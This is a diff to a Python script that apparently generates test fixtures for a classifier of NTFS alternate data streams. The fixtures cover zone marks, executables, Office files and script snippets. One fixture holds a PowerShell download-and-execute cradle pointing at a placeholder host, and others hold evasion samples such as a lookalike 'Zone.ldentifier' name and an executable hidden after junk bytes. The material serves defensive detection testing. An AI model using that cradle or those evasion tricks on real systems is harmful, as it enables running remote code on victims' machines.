@@ -64,3 +64,44 @@ for name, count, flags, data in [('text', 30, 0, b'hello'), ('exe', 30, 0, b'MZ\
                                  ('huge', 30, 1, b'start of a 5 GiB stream'),
                                  ('zeros', 30, 0, b'\x00\x00\x00'), ('crlf', 30, 0, b'a\r\nb\tc')]:
     write('preview', name, struct.pack('<hB', count, flags) + data)
+
+# The classifier: flags (1 folder, 2 a 5 GiB stream, 4 unreadable), the name's length, the name, the
+# bytes; the programs and archives are the report tests' samples.
+SAMPLES = os.path.join(HERE, '..', 'tests', 'report', 'fixtures')
+
+
+def sample(name):
+    with open(os.path.join(SAMPLES, name), 'rb') as f:
+        return f.read()
+
+
+def classified(flags, name, data):
+    return struct.pack('<BB', flags, len(name)) + utf16(name) + data
+
+
+MARK = b'[ZoneTransfer]\r\nZoneId=3\r\nHostUrl=https://example.com/a.exe\r\n'
+for name, flags, stream, data in [
+        ('mark', 0, 'Zone.Identifier', MARK),
+        ('mark_utf16', 0, 'Zone.Identifier', b'\xff\xfe' + MARK.decode().encode('utf-16-le')),
+        ('mark_holding_exe', 0, 'Zone.Identifier', sample('tiny-x86.exe')),
+        ('exe', 0, 'payload', sample('tiny-x86.exe')), ('dll', 1, 'x', sample('tiny-x64.dll')),
+        ('driver', 0, 'x', sample('tiny-x64.sys')), ('docx', 0, 'doc', sample('sample.docx')),
+        ('docm', 0, 'doc', sample('sample.docm')), ('jar', 0, 'j', sample('sample.jar')),
+        ('odt', 0, 'o', sample('sample.odt')), ('zip', 0, 'z', sample('sample.zip')),
+        ('huge_wof', 2, 'WofCompressedData', bytes(range(256)) * 4),
+        ('unreadable', 4, 'favicon', b''),
+        ('powershell', 0, 's', b'IEX (New-Object Net.WebClient).DownloadString("http://x")\r\n'),
+        ('batch', 1, 's', b'@echo off\r\nset a=1\r\ncall :x\r\n'),
+        ('vbscript', 0, 's', b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
+        ('hta', 0, 's', b'<html><hta:application id="a"><script>x()</script></html>'),
+        ('shebang', 0, 's', b'#!/bin/sh\necho hi\n'),
+        ('lnk', 0, 'l', b'\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46' + bytes(60)),
+        ('property_set', 0, '\x05SummaryInformation', b'\xfe\xff\x00\x00\x0a\x00\x02\x00' + bytes(16) + b'\x01\x00\x00\x00' + bytes(20)),
+        ('property_store', 0, 'ms-properties', b'\x40\x00\x00\x001SPS' + bytes(56)),
+        ('afp', 0, 'AFP_AfpInfo', b'AFP\x00\x00\x00\x01\x00' + bytes(52)),
+        ('lookalike', 0, 'Zone.ldentifier', MARK), ('blank_name', 0, '\u200b', b'x'),
+        ('system_name', 0, '$DATA', b'x'), ('utf16_text', 0, 't', 'notes in UTF-16'.encode('utf-16-le')),
+        ('base64', 0, 'b', b'data=' + b'QUJDRGVmZ2hpams0NTY3' * 20),
+        ('ole', 0, 'o', b'\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1' + bytes(80)),
+        ('embedded', 0, 'e', b'junk' * 20 + sample('tiny-x86.exe'))]:
+    write('classifier', name, classified(flags, stream, data))
